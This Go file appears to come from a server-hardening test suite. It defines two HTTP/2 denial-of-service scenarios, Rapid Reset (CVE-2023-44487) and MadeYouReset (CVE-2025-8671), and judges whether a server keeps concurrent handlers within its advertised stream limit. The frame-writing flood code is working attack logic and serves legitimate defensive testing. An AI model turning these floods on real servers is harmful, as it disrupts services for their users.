package scenarios

import (
	"context"
	"fmt"

	"golang.org/x/net/http2"
)

// h2ResetStreams bounds the streams a reset flood opens (before Scale).
const h2ResetStreams = 20000

// h2ResetExpect is what harden must do against a reset flood: however
// fast streams are opened and reset, the work they start stays within the
// concurrency the server promised, and other clients are still served.
const h2ResetExpect = "never runs more handlers at once than the max_concurrent_streams it advertises, and keeps serving other clients"

// h2RapidReset is the HTTP/2 Rapid Reset attack (CVE-2023-44487): a
// client opens streams and cancels each at once, so the server starts
// work for requests that no longer count against the stream limit.
func h2RapidReset() Scenario {
	return Scenario{
		Name: "h2-rapid-reset",
		Description: fmt.Sprintf("One HTTP/2 connection sends up to %d streams, each a GET /slow (a handler that ignores cancellation) cancelled at once by RST_STREAM, for at most %v (Rapid Reset, CVE-2023-44487).",
			h2ResetStreams, h2FloodGiveUp),
		Expect: h2ResetExpect,
		Run: attackH2(func(ctx context.Context, s *server, b Bounds) Outcome {
			return s.resetFlood(ctx, b, func(block []byte) func(*http2.Framer, int) (int, error) {
				return func(fr *http2.Framer, i int) (int, error) {
					id := uint32(2*i + 1)
					if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}); err != nil {
						return 0, err
					}
					return 2, fr.WriteRSTStream(id, http2.ErrCodeCancel)
				}
			})
		}),
	}
}

// h2MadeYouReset is the MadeYouReset attack (CVE-2025-8671): the client
// never resets a stream itself, but sends frames the protocol forbids on
// it, so the server resets the stream and, like Rapid Reset, the
// stream's work no longer counts against the limit.
func h2MadeYouReset() Scenario {
	return Scenario{
		Name: "h2-made-you-reset",
		Description: fmt.Sprintf("One HTTP/2 connection sends up to %d streams, each a complete GET /slow followed by a frame that makes the server reset it: DATA after END_STREAM, or a WINDOW_UPDATE that overflows the stream's window; for at most %v (MadeYouReset, CVE-2025-8671).",
			h2ResetStreams, h2FloodGiveUp),
		Expect: h2ResetExpect,
		Run: attackH2(func(ctx context.Context, s *server, b Bounds) Outcome {
			return s.resetFlood(ctx, b, func(block []byte) func(*http2.Framer, int) (int, error) {
				return func(fr *http2.Framer, i int) (int, error) {
					id := uint32(2*i + 1)
					if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}); err != nil {
						return 0, err
					}
					if i%2 == 0 {
						// The stream is half-closed: DATA is a stream
						// error (STREAM_CLOSED).
						return 2, fr.WriteData(id, true, []byte{'x'})
					}
					// The window starts at the attacker's initial window
					// size; adding the largest increment overflows it
					// (FLOW_CONTROL_ERROR).
					return 2, fr.WriteWindowUpdate(id, 1<<31-1)
				}
			})
		}),
	}
}

// resetFlood runs a reset flood whose streams are written by stream (given
// the connection and a GET /slow header block) while a legitimate client
// is served, and judges it by the handlers that ran at once against the
// limit the server advertised.
func (s *server) resetFlood(ctx context.Context, b Bounds, stream func(block []byte) func(*http2.Framer, int) (int, error)) Outcome {
	ctx, cancel := context.WithTimeout(ctx, h2FloodGiveUp)
	defer cancel()
	c, err := s.dialH2(ctx, h2Dial{ackPings: true})
	if err != nil {
		return noH2(err)
	}
	streams := b.scaled(h2ResetStreams)
	frames := 0
	legit := s.whileLegitH2(ctx, func() {
		frames = c.flood(ctx, streams, stream(c.request("GET", "/slow")))
		c.drain(ctx, h2Settle)
	})
	c.close()

	o := h2Outcome(c, frames, legit)
	adv := c.advertisedStreams()
	peak := s.h.Peak()
	o.Defended = adv > 0 && peak <= int(adv)+legitSlack && servedLegit(legit)
	limit := "none advertised"
	if adv > 0 {
		limit = fmt.Sprintf("advertised %d", adv)
	}
	o.Summary = fmt.Sprintf("%s; %d of %d streams sent (server read %s), %s; peak %d handlers (%s); %s",
		c.ending("still open"), frames/2, streams, size(o.ServerBytesRead), c.resetFigure(), peak, limit, legitFigure(legit))
	return o
}
